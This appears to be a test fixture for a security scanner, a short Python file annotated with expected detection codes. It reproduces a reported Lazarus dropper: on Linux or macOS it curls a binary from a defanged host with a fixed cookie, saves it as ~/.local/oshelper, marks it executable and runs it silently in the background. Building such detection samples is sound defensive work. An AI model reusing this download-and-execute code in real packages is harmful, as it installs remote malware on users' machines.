# Shape of the 360-reported Lazarus Linux/macOS wave (2024): unless on
# Windows, curl fetches an OS-specific binary with a fixed session cookie,
# saves it as oshelper, makes it executable and starts it in the background.  # expect: HS220 high
# Defanged: example.invalid; the cookie value is made up.
import os
import platform
import subprocess

_sys = platform.system()
if _sys != "Windows":
    _t = "m" if _sys == "Darwin" else "l"
    _p = os.path.join(os.path.expanduser("~"), ".local", "oshelper")
    subprocess.Popen(  # expect: HS113 critical
        f"curl -k -s -b 'oshelper_session=00000000000000000000000' "
        f"'https://pypi.example.invalid/cloud.php?type={_t}' -o {_p} && chmod +x {_p} && {_p} &",
        shell=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
